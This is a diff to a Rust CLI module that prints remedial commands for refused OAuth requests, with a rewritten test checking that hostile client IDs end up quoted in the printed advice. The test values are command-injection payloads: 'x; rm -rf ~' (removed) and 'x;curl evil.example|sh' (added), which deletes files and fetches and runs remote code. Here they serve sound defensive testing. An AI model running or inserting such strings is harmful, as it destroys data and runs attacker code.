@@ -1,6 +1,6 @@
 //! `latchkey explain`: why a request was refused.
 
-use super::{Answer, Failure, Site, argument, fields, rfc3339, stamp};
+use super::{Answer, Failure, Site, fields, rfc3339, stamp, word};
 use crate::op::refusal::{Refusal, Refusals};
 use crate::platform::clock::Time;
 use serde_json::json;
@@ -58,7 +58,8 @@ fn described(refusal: &Refusal, todo: String) -> String {
 
 /// What to do next, by the OAuth error.
 fn advice(refusal: &Refusal) -> String {
-    let client = &refusal.client_id.as_deref().map_or_else(|| "CLIENT".to_owned(), argument);
+    // Anybody may have sent it.
+    let client = refusal.client_id.as_deref().map_or_else(|| "CLIENT".to_owned(), word);
     let is_redirect = refusal.description.contains("redirect_uri");
     match refusal.error.as_str() {
         _ if is_redirect => format!("compare `sent` and `expected` character by character; if the application is right: latchkey client update {client} --redirect-uri …"),
@@ -79,20 +80,29 @@ mod tests {
     use super::*;
 
     #[test]
-    fn the_advice_is_a_command_that_names_the_client_and_nothing_else() {
-        let refusal = Refusal {
-            reference: "LK-7Q2M9KXA".to_owned(),
+    fn a_command_that_is_printed_runs_nothing_of_what_was_sent() {
+        let refusal = |error: &str, description: &str| Refusal {
+            reference: "LK-7Q2M9KXA".into(),
             at: 0,
-            endpoint: "/token".to_owned(),
-            error: "invalid_client".to_owned(),
-            description: String::new(),
+            endpoint: "token".into(),
+            error: error.into(),
+            description: description.into(),
             clause: None,
-            client_id: Some("x; rm -rf ~".to_owned()),
+            client_id: Some("x;curl evil.example|sh".into()),
             sent: None,
             expected: None,
             cause: None,
         };
-        assert!(advice(&refusal).starts_with("latchkey client show 'x; rm -rf ~';"), "{}", advice(&refusal));
+        for (error, description) in [
+            ("invalid_client", ""),
+            ("unauthorized_client", ""),
+            ("invalid_scope", ""),
+            ("invalid_request", "redirect_uri is not registered"),
+        ] {
+            let told = advice(&refusal(error, description));
+            assert!(told.contains("'x;curl evil.example|sh'"), "{told}");
+            assert!(!told.replace("'x;curl evil.example|sh'", "").contains("curl"), "{told}");
+        }
     }
 
     #[test]
